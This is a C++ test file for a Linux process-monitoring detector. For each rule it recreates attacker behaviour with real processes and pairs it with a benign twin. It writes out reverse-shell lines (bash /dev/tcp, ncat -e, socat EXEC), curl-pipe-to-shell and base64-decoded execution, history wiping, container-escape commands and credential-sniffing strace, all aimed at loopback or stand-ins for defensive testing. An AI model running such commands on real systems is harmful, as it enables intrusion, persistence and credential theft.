// Live tests of the built-in rules: one Positive and one Negative test per
// rule (rules/<id>.yaml). Each Positive test creates the condition the rule
// describes with a real process on this host, scans with the real procmond
// and expects exactly one finding for that process; each Negative test
// creates a benign twin and expects none of its processes to be reported.
// See rules_fixture.h. The tests that need root are in
// rules_live_privileged_test.cc (label "privileged").
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/utsname.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <string>

#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

std::string Sleep() {
  return SystemBinary("sleep");
}
std::string Bash() {
  return SystemBinary("bash");
}

bool EndsWith(const std::string& s, const std::string& suffix) {
  return s.size() >= suffix.size() && s.compare(s.size() - suffix.size(), suffix.size(), suffix) == 0;
}

// Waits for `pid` to run an executable whose path ends with `suffix`.
void WaitExe(pid_t pid, const std::string& suffix) {
  EXPECT_TRUE(WaitUntil([&] { return EndsWith(ExeLink(pid), suffix); }))
      << "pid " << pid << " never ran ..." << suffix << " (exe: " << ExeLink(pid) << ")";
}

// Waits for `pid` to carry the command name `comm`.
void WaitComm(pid_t pid, const std::string& comm) {
  EXPECT_TRUE(WaitUntil([&] { return Comm(pid) == comm; }))
      << "pid " << pid << " never got comm " << comm << " (comm: " << Comm(pid) << ")";
}

// The bash child (not yet exec'd) keeps the parent's name; this waits for
// the child that has exec'd `comm`.
pid_t ChildNamed(pid_t parent, const std::string& comm) {
  auto child = WaitForChild(parent, [&](const std::string& c) { return c == comm; });
  EXPECT_TRUE(child.has_value()) << "no child " << comm << " of " << parent;
  return child.value_or(-1);
}

// ---------------------------------------------------------------------------
// proc-deleted-executable

TEST_F(RuleLiveTest, ProcDeletedExecutable_Positive) {
  const std::string bin = work().File("bin/dropper");
  CopyExecutable(Sleep(), bin);
  auto p = TestProcess::Start(bin, {"dropper", "1000"});
  ASSERT_NE(p, nullptr);
  ASSERT_EQ(::unlink(bin.c_str()), 0);
  WaitExe(p->pid(), " (deleted)");
  auto row = ExpectOneRow(ScanAndRun("proc-deleted-executable"), p->pid());
  EXPECT_EQ(row.value("exe_path", ""), bin + " (deleted)");
}

TEST_F(RuleLiveTest, ProcDeletedExecutable_Negative) {
  const std::string bin = work().File("bin/kept");
  CopyExecutable(Sleep(), bin);
  auto kept = TestProcess::Start(bin, {"kept", "1000"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  auto memfd = TestProcess::Start(Sleep(), {"sleep", "1000"}, {.from_memfd = true});
  ASSERT_TRUE(kept && system && memfd);
  WaitExe(memfd->pid(), " (deleted)");  // memfd images read as deleted; they have their own rule
  ExpectNoRows(ScanAndRun("proc-deleted-executable"), {kept->pid(), system->pid(), memfd->pid()});
}

// ---------------------------------------------------------------------------
// proc-memfd-executable

TEST_F(RuleLiveTest, ProcMemfdExecutable_Positive) {
  auto p = TestProcess::Start(Sleep(), {"payload", "1000"}, {.from_memfd = true});
  ASSERT_NE(p, nullptr);
  ASSERT_TRUE(WaitUntil([&] { return ExeLink(p->pid()).rfind("/memfd:payload", 0) == 0; }))
      << ExeLink(p->pid());
  auto row = ExpectOneRow(ScanAndRun("proc-memfd-executable"), p->pid());
  EXPECT_EQ(row.value("exe_path", "").rfind("/memfd:payload", 0), 0u) << row.dump();
}

TEST_F(RuleLiveTest, ProcMemfdExecutable_Negative) {
  const std::string bin = work().File("bin/gone");
  CopyExecutable(Sleep(), bin);
  auto deleted = TestProcess::Start(bin, {"gone", "1000"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(deleted && system);
  ASSERT_EQ(::unlink(bin.c_str()), 0);
  WaitExe(deleted->pid(), " (deleted)");
  ExpectNoRows(ScanAndRun("proc-memfd-executable"), {deleted->pid(), system->pid()});
}

// ---------------------------------------------------------------------------
// proc-exec-from-tmp

TEST_F(RuleLiveTest, ProcExecFromTmp_Positive) {
  const std::string bin = work().File("payload");
  CopyExecutable(Sleep(), bin);
  ScratchDir var_tmp("/var/tmp");
  ASSERT_TRUE(var_tmp.ok());
  const std::string bin2 = var_tmp.File("payload2");
  CopyExecutable(Sleep(), bin2);
  auto p = TestProcess::Start(bin, {"payload", "1000"});
  auto p2 = TestProcess::Start(bin2, {"payload2", "1000"});
  ASSERT_TRUE(p && p2);
  auto r = ScanAndRun("proc-exec-from-tmp");
  EXPECT_EQ(ExpectOneRow(r, p->pid()).value("exe_path", ""), bin);
  EXPECT_EQ(ExpectOneRow(r, p2->pid()).value("exe_path", ""), bin2);
}

TEST_F(RuleLiveTest, ProcExecFromTmp_Negative) {
  // Installed programs working in /tmp with /tmp paths on their command
  // line: only where the binary itself lives counts.
  auto shell = TestProcess::Start(Bash(), {"bash", "-c", "cd " + work().path() + "; sleep 1000; true"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(shell && system);
  const pid_t sleeper = ChildNamed(shell->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-exec-from-tmp"), {shell->pid(), sleeper, system->pid()});
}

// ---------------------------------------------------------------------------
// proc-exec-from-dev-shm

TEST_F(RuleLiveTest, ProcExecFromDevShm_Positive) {
  struct statvfs vfs {};
  if (::statvfs("/dev/shm", &vfs) != 0) GTEST_SKIP() << "no /dev/shm on this host";
  if (vfs.f_flag & ST_NOEXEC) GTEST_SKIP() << "/dev/shm is mounted noexec here: nothing can run from it";
  ScratchDir shm("/dev/shm");
  ASSERT_TRUE(shm.ok()) << "cannot create a directory in /dev/shm";
  const std::string bin = shm.File("kdevtmpfsi");
  CopyExecutable(Sleep(), bin);
  auto p = TestProcess::Start(bin, {"kdevtmpfsi", "1000"});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-exec-from-dev-shm"), p->pid());
  EXPECT_EQ(row.value("exe_path", ""), bin);
}

TEST_F(RuleLiveTest, ProcExecFromDevShm_Negative) {
  const std::string bin = work().File("shm-lookalike");
  CopyExecutable(Sleep(), bin);
  auto tmp = TestProcess::Start(bin, {"shm-lookalike", "1000"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(tmp && system);
  ExpectNoRows(ScanAndRun("proc-exec-from-dev-shm"), {tmp->pid(), system->pid()});
}

// ---------------------------------------------------------------------------
// proc-exec-from-hidden-dir

TEST_F(RuleLiveTest, ProcExecFromHiddenDir_Positive) {
  const std::string bin = work().File(".X11-cache/.x/kswapd0");
  CopyExecutable(Sleep(), bin);
  auto p = TestProcess::Start(bin, {"kswapd0", "1000"});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-exec-from-hidden-dir"), p->pid());
  EXPECT_EQ(row.value("exe_path", ""), bin);
}

TEST_F(RuleLiveTest, ProcExecFromHiddenDir_Negative) {
  const std::string bin = work().File("visible/tool.bin");
  CopyExecutable(Sleep(), bin);
  auto visible = TestProcess::Start(bin, {"tool.bin", "1000"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(visible && system);
  ExpectNoRows(ScanAndRun("proc-exec-from-hidden-dir"), {visible->pid(), system->pid()});
}

// ---------------------------------------------------------------------------
// proc-webserver-spawned-shell / proc-database-spawned-shell
//
// The "server" is a copy of bash under the server's name (so its comm is the
// server's), running a script whose first command starts /bin/sh: exactly
// what a web shell's system() call produces. "; true" keeps bash from
// replacing itself with its last command.

struct ServerAndShell {
  std::unique_ptr<TestProcess> server;
  pid_t child = -1;
};

ServerAndShell StartServerRunning(const ScratchDir& dir, const std::string& server_name,
                                  const std::string& argv0, const std::string& script,
                                  const std::string& child_comm) {
  ServerAndShell s;
  const std::string bin = dir.File("srv/" + server_name);
  CopyExecutable(Bash(), bin);
  s.server = TestProcess::Start(bin, {argv0, "-c", script});
  if (!s.server) return s;
  s.child = ChildNamed(s.server->pid(), child_comm);
  return s;
}

TEST_F(RuleLiveTest, ProcWebserverSpawnedShell_Positive) {
  auto s = StartServerRunning(work(), "nginx", "nginx", "/bin/sh -c 'sleep 1000; true'; true", "sh");
  ASSERT_TRUE(s.server && s.child > 0);
  auto row = ExpectOneRow(ScanAndRun("proc-webserver-spawned-shell"), s.child);
  EXPECT_EQ(row.value("parent_name", ""), "nginx");
  EXPECT_EQ(row.value("name", ""), "sh");
}

TEST_F(RuleLiveTest, ProcWebserverSpawnedShell_Negative) {
  // A shell under something that is not a web server, and a web server
  // whose child is not a shell or tool.
  auto other = StartServerRunning(work(), "worker", "worker", "/bin/sh -c 'sleep 1000; true'; true", "sh");
  auto plain = StartServerRunning(work(), "nginx", "nginx", "sleep 1000; true", "sleep");
  ASSERT_TRUE(other.server && other.child > 0 && plain.server && plain.child > 0);
  ExpectNoRows(ScanAndRun("proc-webserver-spawned-shell"),
               {other.server->pid(), other.child, plain.server->pid(), plain.child});
}

TEST_F(RuleLiveTest, ProcDatabaseSpawnedShell_Positive) {
  auto s = StartServerRunning(work(), "postgres", "postgres", "/bin/sh -c 'sleep 1000; true'; true", "sh");
  ASSERT_TRUE(s.server && s.child > 0);
  auto row = ExpectOneRow(ScanAndRun("proc-database-spawned-shell"), s.child);
  EXPECT_EQ(row.value("parent_name", ""), "postgres");
}

TEST_F(RuleLiveTest, ProcDatabaseSpawnedShell_Negative) {
  // PostgreSQL's archiver runs archive_command through /bin/sh: expected.
  auto archiver = StartServerRunning(work(), "postgres", "postgres: 15/main: archiver",
                                     "/bin/sh -c 'sleep 1000; true'; true", "sh");
  auto redis = StartServerRunning(work(), "redis-server", "redis-server", "sleep 1000; true", "sleep");
  ASSERT_TRUE(archiver.server && archiver.child > 0 && redis.server && redis.child > 0);
  ExpectNoRows(ScanAndRun("proc-database-spawned-shell"),
               {archiver.server->pid(), archiver.child, redis.server->pid(), redis.child});
}

// ---------------------------------------------------------------------------
// proc-kernel-thread-masquerade

TEST_F(RuleLiveTest, ProcKernelThreadMasquerade_Positive) {
  auto p = TestProcess::Start(ProbeBin(), {"[kworker/1:2-events]"}, {.env = {"RULE_PROBE_COMM=kworker/1:2"}});
  ASSERT_NE(p, nullptr);
  WaitComm(p->pid(), "kworker/1:2");
  auto row = ExpectOneRow(ScanAndRun("proc-kernel-thread-masquerade"), p->pid());
  EXPECT_EQ(row.value("name", ""), "kworker/1:2");
}

TEST_F(RuleLiveTest, ProcKernelThreadMasquerade_Negative) {
  auto renamed = TestProcess::Start(ProbeBin(), {"worker-1"}, {.env = {"RULE_PROBE_COMM=worker-1"}});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(renamed && system);
  WaitComm(renamed->pid(), "worker-1");
  auto r = ScanAndRun("proc-kernel-thread-masquerade");
  ExpectNoRows(r, {renamed->pid(), system->pid()});
  // Real kernel threads (visible outside containers) are never reported.
  for (const auto& row : r.rows) EXPECT_NE(IntOf(row, "ppid"), 2) << row.dump();
}

// ---------------------------------------------------------------------------
// proc-cryptominer-cmdline

TEST_F(RuleLiveTest, ProcCryptominerCmdline_Positive) {
  const std::string bin = work().File("opt/xmrig");
  CopyExecutable(ProbeBin(), bin);
  auto p = TestProcess::Start(bin, {"xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "44AFFq5kSiGBoZ",
                                    "-k", "--donate-level=1", "-a", "rx/0"});
  // The same options under an innocent name still give the miner away.
  const std::string bin2 = work().File("opt/dbus-helper");
  CopyExecutable(ProbeBin(), bin2);
  auto p2 = TestProcess::Start(
      bin2, {"dbus-helper", "--url", "pool.supportxmr.com:443", "--cpu-max-threads-hint=75"});
  ASSERT_TRUE(p && p2);
  auto r = ScanAndRun("proc-cryptominer-cmdline");
  ExpectOneRow(r, p->pid());
  ExpectOneRow(r, p2->pid());
}

TEST_F(RuleLiveTest, ProcCryptominerCmdline_Negative) {
  const std::string bin = work().File("opt/webapp");
  CopyExecutable(ProbeBin(), bin);
  auto app = TestProcess::Start(bin, {"webapp", "--port", "3333", "--log-level=1", "--threads", "4"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(app && system);
  ExpectNoRows(ScanAndRun("proc-cryptominer-cmdline"), {app->pid(), system->pid()});
}

// ---------------------------------------------------------------------------
// proc-loader-preload-env

// A library that is loaded anyway: the C library this test links against.
std::string HarmlessLibrary() {
  Dl_info info{};
  if (::dladdr(reinterpret_cast<void*>(&::getpid), &info) == 0 || !info.dli_fname) return "";
  return info.dli_fname;
}

TEST_F(RuleLiveTest, ProcLoaderPreloadEnv_Positive) {
  const std::string lib = HarmlessLibrary();
  ASSERT_FALSE(lib.empty());
  auto p = TestProcess::Start(Sleep(), {"sleep", "1000"}, {.env = {"LD_PRELOAD=" + lib}});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-loader-preload-env"), p->pid());
  EXPECT_NE(row.value("loader_env", "").find("LD_PRELOAD"), std::string::npos) << row.dump();
}

TEST_F(RuleLiveTest, ProcLoaderPreloadEnv_Negative) {
  auto plain = TestProcess::Start(Sleep(), {"sleep", "1000"});
  // LD_LIBRARY_PATH alone is everyday packaging practice, not injection.
  auto libpath = TestProcess::Start(Sleep(), {"sleep", "1000"}, {.env = {"LD_LIBRARY_PATH=/usr/local/lib"}});
  ASSERT_TRUE(plain && libpath);
  ExpectNoRows(ScanAndRun("proc-loader-preload-env"), {plain->pid(), libpath->pid()});
}

// ---------------------------------------------------------------------------
// proc-reverse-shell-socket-stdio

TEST_F(RuleLiveTest, ProcReverseShellSocketStdio_Positive) {
  // An interactive shell whose terminal is a TCP connection: a reverse shell.
  LoopbackConnection conn;
  ASSERT_TRUE(conn.ok());
  const int fd = conn.client_fd();
  auto p = TestProcess::Start("/bin/sh", {"sh", "-i"}, {.stdin_fd = fd, .stdout_fd = fd, .stderr_fd = fd});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-reverse-shell-socket-stdio"), p->pid());
  EXPECT_EQ(row.value("name", ""), "sh");
}

TEST_F(RuleLiveTest, ProcReverseShellSocketStdio_Negative) {
  LoopbackConnection conn;
  ASSERT_TRUE(conn.ok());
  const int fd = conn.client_fd();
  // A service whose output goes to a socket (systemd's journal stream) but
  // reads /dev/null; a non-shell on a socket (inetd-style service); a shell
  // under sshd (ssh host 'cmd' uses socket pairs).
  auto journal_like =
      TestProcess::Start("/bin/sh", {"sh", "-c", "sleep 1000; true"}, {.stdout_fd = fd, .stderr_fd = fd});
  auto service = TestProcess::Start(Sleep(), {"sleep", "1000"}, {.stdin_fd = fd, .stdout_fd = fd});
  const std::string sshd = work().File("sbin/sshd");
  CopyExecutable(Bash(), sshd);
  auto session = TestProcess::Start(sshd, {"sshd", "-c", "/bin/sh -c 'sleep 1000; true'; true"},
                                    {.stdin_fd = fd, .stdout_fd = fd, .stderr_fd = fd});
  ASSERT_TRUE(journal_like && service && session);
  const pid_t session_shell = ChildNamed(session->pid(), "sh");
  ExpectNoRows(ScanAndRun("proc-reverse-shell-socket-stdio"),
               {journal_like->pid(), service->pid(), session->pid(), session_shell});
}

// ---------------------------------------------------------------------------
// proc-netcat-exec

TEST_F(RuleLiveTest, ProcNetcatExec_Positive) {
  const std::string ncat = work().File("bin/ncat");
  const std::string socat = work().File("bin/socat");
  CopyExecutable(ProbeBin(), ncat);
  CopyExecutable(ProbeBin(), socat);
  auto nc = TestProcess::Start(ncat, {"ncat", "127.0.0.1", "4444", "-e", "/bin/sh"});
  auto so =
      TestProcess::Start(socat, {"socat", "TCP:127.0.0.1:4444", "EXEC:/bin/bash -li,pty,stderr,setsid"});
  ASSERT_TRUE(nc && so);
  auto r = ScanAndRun("proc-netcat-exec");
  ExpectOneRow(r, nc->pid());
  ExpectOneRow(r, so->pid());
}

TEST_F(RuleLiveTest, ProcNetcatExec_Negative) {
  const std::string ncat = work().File("bin/ncat");
  const std::string socat = work().File("bin/socat");
  CopyExecutable(ProbeBin(), ncat);
  CopyExecutable(ProbeBin(), socat);
  auto nc = TestProcess::Start(ncat, {"ncat", "-l", "-v", "127.0.0.1", "4444"});
  auto so = TestProcess::Start(socat, {"socat", "TCP-LISTEN:4444,reuseaddr,fork", "STDOUT"});
  ASSERT_TRUE(nc && so);
  ExpectNoRows(ScanAndRun("proc-netcat-exec"), {nc->pid(), so->pid()});
}

// ---------------------------------------------------------------------------
// proc-reverse-shell-cmdline

TEST_F(RuleLiveTest, ProcReverseShellCmdline_Positive) {
  // A real bash /dev/tcp reverse shell to a loopback listener of this test.
  LoopbackConnection conn;
  ASSERT_TRUE(conn.ok());
  const std::string script =
      "exec 5<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + "; cat <&5 | /bin/sh 2>&5 >&5";
  auto p = TestProcess::Start(Bash(), {"bash", "-c", script});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "cat");  // the connection is up and the relay runs
  auto row = ExpectOneRow(ScanAndRun("proc-reverse-shell-cmdline"), p->pid());
  EXPECT_NE(row.value("command_line", "").find("/dev/tcp/"), std::string::npos) << row.dump();
}

TEST_F(RuleLiveTest, ProcReverseShellCmdline_Negative) {
  auto relay =
      TestProcess::Start(Bash(), {"bash", "-c", "exec 5</dev/null; cat <&5 | /bin/sh; sleep 1000; true"});
  ASSERT_NE(relay, nullptr);
  std::vector<pid_t> pids{relay->pid()};
  std::unique_ptr<TestProcess> py;
  if (std::string python = SystemBinary("python3"); !python.empty()) {
    // Socket code without handing the connection to a shell.
    py = TestProcess::Start(python, {"python3", "-c", "import socket, time; time.sleep(1000)"});
    ASSERT_NE(py, nullptr);
    pids.push_back(py->pid());
  }
  ChildNamed(relay->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-reverse-shell-cmdline"), pids);
}

// ---------------------------------------------------------------------------
// proc-download-and-execute
//
// Port 9 on loopback is closed: curl/wget fail at once (or are missing), and
// the shell stays alive in "sleep 1000; true" with the command line to be seen.

TEST_F(RuleLiveTest, ProcDownloadAndExecute_Positive) {
  auto piped = TestProcess::Start(
      Bash(), {"bash", "-c", "curl -fsSL http://127.0.0.1:9/install.sh | sh; sleep 1000; true"});
  auto dropped =
      TestProcess::Start(Bash(), {"bash", "-c",
                                  "wget -q -O " + work().File(".x") + " http://127.0.0.1:9/x; chmod +x " +
                                      work().File(".x") + "; sleep 1000; true"});
  ASSERT_TRUE(piped && dropped);
  ChildNamed(piped->pid(), "sleep");
  ChildNamed(dropped->pid(), "sleep");
  auto r = ScanAndRun("proc-download-and-execute");
  ExpectOneRow(r, piped->pid());
  ExpectOneRow(r, dropped->pid());
}

TEST_F(RuleLiveTest, ProcDownloadAndExecute_Negative) {
  // A download checked, not executed; an ordinary shell pipeline.
  auto checked = TestProcess::Start(
      Bash(), {"bash", "-c", "curl -fsS -o /dev/null http://127.0.0.1:9/x | sha256sum; sleep 1000; true"});
  auto pipeline = TestProcess::Start(Bash(), {"bash", "-c", "echo ok | sh -n; sleep 1000; true"});
  ASSERT_TRUE(checked && pipeline);
  ChildNamed(checked->pid(), "sleep");
  ChildNamed(pipeline->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-download-and-execute"), {checked->pid(), pipeline->pid()});
}

// ---------------------------------------------------------------------------
// proc-encoded-payload-exec

TEST_F(RuleLiveTest, ProcEncodedPayloadExec_Positive) {
  // "c2xlZXAgMTAwMAo=" is "sleep 1000\n": the decoded payload really runs.
  auto p = TestProcess::Start(Bash(), {"bash", "-c", "echo c2xlZXAgMTAwMAo= | base64 -d | sh; true"});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "sh");
  ExpectOneRow(ScanAndRun("proc-encoded-payload-exec"), p->pid());
}

TEST_F(RuleLiveTest, ProcEncodedPayloadExec_Negative) {
  auto p = TestProcess::Start(
      Bash(), {"bash", "-c", "echo c2xlZXAgMTAwMAo= | base64 -d > /dev/null; sleep 1000; true"});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-encoded-payload-exec"), {p->pid()});
}

// ---------------------------------------------------------------------------
// proc-history-tampering

TEST_F(RuleLiveTest, ProcHistoryTampering_Positive) {
  auto p = TestProcess::Start(Bash(), {"bash", "-c", "unset HISTFILE; export HISTSIZE=0; sleep 1000; true"});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "sleep");
  ExpectOneRow(ScanAndRun("proc-history-tampering"), p->pid());
}

TEST_F(RuleLiveTest, ProcHistoryTampering_Negative) {
  auto p = TestProcess::Start(Bash(), {"bash", "-c", "echo \"$HISTFILE\" > /dev/null; sleep 1000; true"});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-history-tampering"), {p->pid()});
}

// ---------------------------------------------------------------------------
// proc-container-escape-cmdline
//
// Stand-ins carry the exact command lines: the real nsenter needs access to
// PID 1's namespaces, and a real `docker run --privileged` needs a daemon.

TEST_F(RuleLiveTest, ProcContainerEscapeCmdline_Positive) {
  const std::string nsenter = work().File("bin/nsenter");
  const std::string docker = work().File("bin/docker");
  CopyExecutable(ProbeBin(), nsenter);
  CopyExecutable(ProbeBin(), docker);
  auto ns =
      TestProcess::Start(nsenter, {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/bash"});
  auto ns2 = TestProcess::Start(nsenter, {"nsenter", "--target=1", "--all", "/bin/sh"});
  auto dk = TestProcess::Start(docker, {"docker", "run", "--rm", "-it", "--privileged", "--pid=host", "-v",
                                        "/:/host", "alpine", "chroot", "/host"});
  ASSERT_TRUE(ns && ns2 && dk);
  auto r = ScanAndRun("proc-container-escape-cmdline");
  ExpectOneRow(r, ns->pid());
  ExpectOneRow(r, ns2->pid());
  ExpectOneRow(r, dk->pid());
}

TEST_F(RuleLiveTest, ProcContainerEscapeCmdline_Negative) {
  const std::string nsenter = work().File("bin/nsenter");
  const std::string docker = work().File("bin/docker");
  CopyExecutable(ProbeBin(), nsenter);
  CopyExecutable(ProbeBin(), docker);
  auto ns = TestProcess::Start(nsenter, {"nsenter", "-t", "4242", "-n", "--", "ip", "addr"});
  auto dk =
      TestProcess::Start(docker, {"docker", "run", "--rm", "-v", "/srv/data:/data", "alpine", "ls", "/data"});
  ASSERT_TRUE(ns && dk);
  ExpectNoRows(ScanAndRun("proc-container-escape-cmdline"), {ns->pid(), dk->pid()});
}

// ---------------------------------------------------------------------------
// proc-kernel-module-untrusted-path

TEST_F(RuleLiveTest, ProcKernelModuleUntrustedPath_Positive) {
  const std::string insmod = work().File("sbin/insmod");
  CopyExecutable(ProbeBin(), insmod);
  const std::string module = work().File("diamorphine.ko");
  auto p = TestProcess::Start(insmod, {"insmod", module});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-kernel-module-untrusted-path"), p->pid());
  EXPECT_EQ(row.value("module_file", ""), module);
}

TEST_F(RuleLiveTest, ProcKernelModuleUntrustedPath_Negative) {
  utsname u{};
  ::uname(&u);
  const std::string insmod = work().File("sbin/insmod");
  const std::string modprobe = work().File("sbin/modprobe");
  CopyExecutable(ProbeBin(), insmod);
  CopyExecutable(ProbeBin(), modprobe);
  auto in_tree = TestProcess::Start(
      insmod, {"insmod", std::string("/lib/modules/") + u.release + "/kernel/drivers/net/dummy.ko"});
  auto by_name = TestProcess::Start(modprobe, {"modprobe", "dummy", "numdummies=1"});
  ASSERT_TRUE(in_tree && by_name);
  ExpectNoRows(ScanAndRun("proc-kernel-module-untrusted-path"), {in_tree->pid(), by_name->pid()});
}

// ---------------------------------------------------------------------------
// proc-system-daemon-masquerade

TEST_F(RuleLiveTest, ProcSystemDaemonMasquerade_Positive) {
  auto p = TestProcess::Start(ProbeBin(), {"/usr/sbin/sshd", "-D"}, {.env = {"RULE_PROBE_COMM=sshd"}});
  ASSERT_NE(p, nullptr);
  WaitComm(p->pid(), "sshd");
  auto row = ExpectOneRow(ScanAndRun("proc-system-daemon-masquerade"), p->pid());
  EXPECT_EQ(row.value("name", ""), "sshd");
}

TEST_F(RuleLiveTest, ProcSystemDaemonMasquerade_Negative) {
  auto renamed = TestProcess::Start(ProbeBin(), {"app-worker"}, {.env = {"RULE_PROBE_COMM=app-worker"}});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(renamed && system);
  WaitComm(renamed->pid(), "app-worker");
  ExpectNoRows(ScanAndRun("proc-system-daemon-masquerade"), {renamed->pid(), system->pid()});
}

// ---------------------------------------------------------------------------
// proc-cron-spawned-suspicious
//
// The scheduler is a copy of bash named cron running the job like cron does
// (/bin/sh -c "<job line>"); the job runs a binary dropped in /tmp.

TEST_F(RuleLiveTest, ProcCronSpawnedSuspicious_Positive) {
  const std::string payload = work().File("update");
  CopyExecutable(Sleep(), payload);
  const std::string cron = work().File("sbin/cron");
  CopyExecutable(Bash(), cron);
  auto sched = TestProcess::Start(cron, {"cron", "-c", "/bin/sh -c '" + payload + " 1000'; true"});
  ASSERT_NE(sched, nullptr);
  // dash may exec the job in place of itself: the child is sh or update.
  auto job = WaitForChild(sched->pid(), [](const std::string& c) { return c == "sh" || c == "update"; });
  ASSERT_TRUE(job.has_value());
  ExpectOneRow(ScanAndRun("proc-cron-spawned-suspicious"), *job);
}

TEST_F(RuleLiveTest, ProcCronSpawnedSuspicious_Negative) {
  const std::string cron = work().File("sbin/cron");
  CopyExecutable(Bash(), cron);
  auto sched = TestProcess::Start(cron, {"cron", "-c", "/bin/sh -c 'cd / && sleep 1000'; true"});
  ASSERT_NE(sched, nullptr);
  auto job = WaitForChild(sched->pid(), [](const std::string& c) { return c == "sh" || c == "sleep"; });
  ASSERT_TRUE(job.has_value());
  ExpectNoRows(ScanAndRun("proc-cron-spawned-suspicious"), {sched->pid(), *job});
}

// ---------------------------------------------------------------------------
// proc-tunneling-tool

TEST_F(RuleLiveTest, ProcTunnelingTool_Positive) {
  const std::string chisel = work().File("bin/chisel");
  CopyExecutable(ProbeBin(), chisel);
  auto p = TestProcess::Start(chisel, {"chisel", "client", "127.0.0.1:8000", "R:socks"});
  // Renamed, the reverse-SOCKS syntax still shows.
  const std::string renamed = work().File("bin/updater");
  CopyExecutable(ProbeBin(), renamed);
  auto p2 =
      TestProcess::Start(renamed, {"updater", "client", "--keepalive", "25s", "127.0.0.1:443", "R:socks"});
  ASSERT_TRUE(p && p2);
  auto r = ScanAndRun("proc-tunneling-tool");
  ExpectOneRow(r, p->pid());
  ExpectOneRow(r, p2->pid());
}

TEST_F(RuleLiveTest, ProcTunnelingTool_Negative) {
  const std::string client = work().File("bin/webclient");
  CopyExecutable(ProbeBin(), client);
  auto p = TestProcess::Start(client, {"webclient", "client", "127.0.0.1:8000", "--socks-timeout", "5"});
  ASSERT_NE(p, nullptr);
  ExpectNoRows(ScanAndRun("proc-tunneling-tool"), {p->pid()});
}

// ---------------------------------------------------------------------------
// proc-ptrace-auth-process
//
// The target is a stand-in named sshd; the tracer a stand-in named strace
// carrying the credential-sniffing command line.

TEST_F(RuleLiveTest, ProcPtraceAuthProcess_Positive) {
  auto target = TestProcess::Start(ProbeBin(), {"sshd: root@pts/0"}, {.env = {"RULE_PROBE_COMM=sshd"}});
  ASSERT_NE(target, nullptr);
  WaitComm(target->pid(), "sshd");
  const std::string strace = work().File("bin/strace");
  CopyExecutable(ProbeBin(), strace);
  auto tracer = TestProcess::Start(
      strace, {"strace", "-f", "-p", std::to_string(target->pid()), "-e", "trace=read,write", "-s", "128"});
  ASSERT_NE(tracer, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-ptrace-auth-process"), tracer->pid());
  EXPECT_EQ(row.value("target_pid", int64_t{-1}), target->pid());
  EXPECT_EQ(row.value("target_name", ""), "sshd");
}

TEST_F(RuleLiveTest, ProcPtraceAuthProcess_Negative) {
  auto target = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_NE(target, nullptr);
  const std::string strace = work().File("bin/strace");
  CopyExecutable(ProbeBin(), strace);
  auto tracer = TestProcess::Start(strace, {"strace", "-f", "-p", std::to_string(target->pid())});
  ASSERT_NE(tracer, nullptr);
  ExpectNoRows(ScanAndRun("proc-ptrace-auth-process"), {tracer->pid(), target->pid()});
}

}  // namespace
}  // namespace sentinel::rules_test
